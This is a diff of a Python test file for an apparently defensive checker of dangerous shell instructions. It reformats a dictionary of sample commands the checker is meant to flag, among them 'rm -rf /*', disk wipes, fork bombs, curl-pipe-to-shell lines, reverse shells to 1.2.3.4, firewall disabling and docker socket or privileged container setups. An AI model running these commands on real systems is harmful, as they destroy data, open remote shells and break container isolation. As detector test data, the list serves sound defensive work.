@@ -7,51 +7,104 @@ from wingman_core.instruction.report import check
 
 DANGEROUS = {
     "delete-system-path": [
-        "rm -r /", "rm -rf /*", "sudo rm -R /etc", "rm --recursive ~", "rm -r $HOME", "rm -r .", "rm -rf *", "/bin/rm -r /var/lib/docker/",
-        "find / -delete", "find /var -name x -exec rm {} +",
+        "rm -r /", "rm -rf /*", "sudo rm -R /etc", "rm --recursive ~", "rm -r $HOME", "rm -r .", "rm -rf *",
+        "/bin/rm -r /var/lib/docker/", "find / -delete", "find /var -name x -exec rm {} +",
     ],
-    "disk-format": ["mkfs.ext4 /dev/sdb1", "mkfs -t ext4 x", "`mkfs.xfs /dev/vdb`"],
+    "disk-format": [
+        "mkfs.ext4 /dev/sdb1", "mkfs -t ext4 x", "`mkfs.xfs /dev/vdb`",
+    ],
     "device-write": [
-        "dd if=/dev/zero of=/dev/sda", "cat x > /dev/sda", "echo x >/dev/nvme0n1", "wipefs -a /dev/sdb", "shred /dev/vda", "fdisk /dev/sda",
-        "parted /dev/sda print",
+        "dd if=/dev/zero of=/dev/sda", "cat x > /dev/sda", "echo x >/dev/nvme0n1", "wipefs -a /dev/sdb",
+        "shred /dev/vda", "fdisk /dev/sda", "parted /dev/sda print",
     ],
-    "world-writable": ["chmod 777 /", "chmod -R 0777 x", "chmod a+rwx x", "chmod +w x"],
-    "system-permissions": ["chown -R app /etc", "chmod -R 755 /usr", "chgrp --recursive x /"],
-    "fork-bomb": [":(){ :|:& };:", ":() { : | : & } ; :", "bomb() { bomb | bomb & }; bomb"],
+    "world-writable": [
+        "chmod 777 /", "chmod -R 0777 x", "chmod a+rwx x", "chmod +w x",
+    ],
+    "system-permissions": [
+        "chown -R app /etc", "chmod -R 755 /usr", "chgrp --recursive x /",
+    ],
+    "fork-bomb": [
+        ":(){ :|:& };:", ":() { : | : & } ; :", "bomb() { bomb | bomb & }; bomb",
+    ],
     "pipe-to-shell": [
-        "curl x | sh", "curl -s x | sudo -E bash -", "wget -qO- x|bash", "curl x | tee y | python3", "echo x | base64 -d | sh",
-        'sh -c "$(curl x)"', "bash <(curl x)", "eval `wget -O- x`", "source <(curl x)",
+        "curl x | sh", "curl -s x | sudo -E bash -", "wget -qO- x|bash", "curl x | tee y | python3",
+        "echo x | base64 -d | sh", 'sh -c "$(curl x)"', "bash <(curl x)", "eval `wget -O- x`", "source <(curl x)",
     ],
-    "sql-drop": ["DROP DATABASE shop", "psql -c 'DROP TABLE a'", "drop table if exists a;", "TRUNCATE TABLE a", "truncate table a;", "dropdb shop"],
-    "sql-delete-all": ["DELETE FROM users;", 'psql -c "delete from users"', "DELETE FROM users"],
-    "redis-flush": ["FLUSHALL", "redis-cli -n 1 flushdb"],
-    "account-write": ["echo x >> /etc/passwd", "cat x > /etc/sudoers"],
-    "kernel-trigger": ["echo b > /proc/sysrq-trigger"],
-    "reverse-shell": ["bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "nc -e /bin/sh 1.2.3.4 9", "ncat -l -e sh "],
+    "sql-drop": [
+        "DROP DATABASE shop", "psql -c 'DROP TABLE a'", "drop table if exists a;", "TRUNCATE TABLE a",
+        "truncate table a;", "dropdb shop",
+    ],
+    "sql-delete-all": [
+        "DELETE FROM users;", 'psql -c "delete from users"', "DELETE FROM users",
+    ],
+    "redis-flush": [
+        "FLUSHALL", "redis-cli -n 1 flushdb",
+    ],
+    "account-write": [
+        "echo x >> /etc/passwd", "cat x > /etc/sudoers",
+    ],
+    "kernel-trigger": [
+        "echo b > /proc/sysrq-trigger",
+    ],
+    "reverse-shell": [
+        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "nc -e /bin/sh 1.2.3.4 9", "ncat -l -e sh ",
+    ],
     "host-power": [
-        "shutdown now", "shutdown -h +5", "sudo reboot", "`reboot`", "- reboot", "$ poweroff", "systemctl halt", "init 0", "telinit 6",
+        "shutdown now", "shutdown -h +5", "sudo reboot", "`reboot`", "- reboot", "$ poweroff", "systemctl halt",
+        "init 0", "telinit 6",
     ],
     "protection-off": [
-        "iptables -F", "iptables -P INPUT ACCEPT", "nft flush ruleset", "ufw disable", "setenforce 0", "setenforce Permissive",
-        "systemctl stop docker", "service ssh stop", "systemctl mask firewalld",
+        "iptables -F", "iptables -P INPUT ACCEPT", "nft flush ruleset", "ufw disable", "setenforce 0",
+        "setenforce Permissive", "systemctl stop docker", "service ssh stop", "systemctl mask firewalld",
     ],
-    "crontab-removed": ["crontab -r"],
-    "kill-everything": ["kill -9 1", "kill -TERM -1", "kill 1"],
-    "git-discard": ["git reset --hard", "git -C /srv reset --hard HEAD~1"],
-    "git-rewrite": ["git filter-branch x", "git push --mirror backup"],
-    "cluster-delete": ["kubectl delete ns shop", "kubectl delete pods --all", "terraform destroy", "tofu destroy"],
-    "docker-prune-all": ["docker system prune -a", "docker system prune --volumes", "docker volume prune", "docker image prune --all", "podman system prune -af"],
-    "docker-volumes": ["docker compose down -v", "docker-compose -f a.yml down --volumes"],
-    "every-container": ["docker rm $(docker ps -aq)", "docker stop `docker ps -q`", "docker ps -q | xargs docker kill"],
-    "privileged": ["docker run --privileged x", "docker run --privileged=true x", "privileged: true", "run it in privileged mode"],
-    "host-namespace": ["docker run --pid=host x", "docker run --ipc host x", "userns_mode: host", "pid: host", "nsenter -t 1 -m sh"],
-    "unconfined": ["docker run --security-opt seccomp=unconfined x", "- apparmor:unconfined"],
+    "crontab-removed": [
+        "crontab -r",
+    ],
+    "kill-everything": [
+        "kill -9 1", "kill -TERM -1", "kill 1",
+    ],
+    "git-discard": [
+        "git reset --hard", "git -C /srv reset --hard HEAD~1",
+    ],
+    "git-rewrite": [
+        "git filter-branch x", "git push --mirror backup",
+    ],
+    "cluster-delete": [
+        "kubectl delete ns shop", "kubectl delete pods --all", "terraform destroy", "tofu destroy",
+    ],
+    "docker-prune-all": [
+        "docker system prune -a", "docker system prune --volumes", "docker volume prune", "docker image prune --all",
+        "podman system prune -af",
+    ],
+    "docker-volumes": [
+        "docker compose down -v", "docker-compose -f a.yml down --volumes",
+    ],
+    "every-container": [
+        "docker rm $(docker ps -aq)", "docker stop `docker ps -q`", "docker ps -q | xargs docker kill",
+    ],
+    "privileged": [
+        "docker run --privileged x", "docker run --privileged=true x", "privileged: true",
+        "run it in privileged mode",
+    ],
+    "host-namespace": [
+        "docker run --pid=host x", "docker run --ipc host x", "userns_mode: host", "pid: host", "nsenter -t 1 -m sh",
+    ],
+    "unconfined": [
+        "docker run --security-opt seccomp=unconfined x", "- apparmor:unconfined",
+    ],
     "docker-socket": [
-        "docker run -v /var/run/docker.sock:/s x", "- /var/run/docker.sock:/var/run/docker.sock:ro", "--mount type=bind,source=/run/docker.sock,target=/s",
-        "-v=/var/run/docker.sock:/s", "source: /var/run/docker.sock", "mount the docker socket into it", "Mounting the Docker sock",
+        "docker run -v /var/run/docker.sock:/s x", "- /var/run/docker.sock:/var/run/docker.sock:ro",
+        "--mount type=bind,source=/run/docker.sock,target=/s", "-v=/var/run/docker.sock:/s",
+        "source: /var/run/docker.sock", "mount the docker socket into it", "Mounting the Docker sock",
     ],
-    "host-mount": ["docker run -v /:/host x", "--volume=/etc:/etc", "- /:/rootfs:ro", "--mount type=bind,src=/,dst=/h", "-v /var/lib/docker:/d"],
-    "capability": ["docker run --cap-add SYS_ADMIN x", "--cap-add=ALL", "--cap-add=CAP_SYS_PTRACE", "cap_add: [SYS_MODULE]", "cap_add:\n  - NET_RAW\n  - SYS_ADMIN", "cap_add:\n- ALL\n"],
+    "host-mount": [
+        "docker run -v /:/host x", "--volume=/etc:/etc", "- /:/rootfs:ro", "--mount type=bind,src=/,dst=/h",
+        "-v /var/lib/docker:/d",
+    ],
+    "capability": [
+        "docker run --cap-add SYS_ADMIN x", "--cap-add=ALL", "--cap-add=CAP_SYS_PTRACE", "cap_add: [SYS_MODULE]",
+        "cap_add:\n  - NET_RAW\n  - SYS_ADMIN", "cap_add:\n- ALL\n",
+    ],
 }  # fmt: skip
 ORDINARY = [
     "docker restart web",
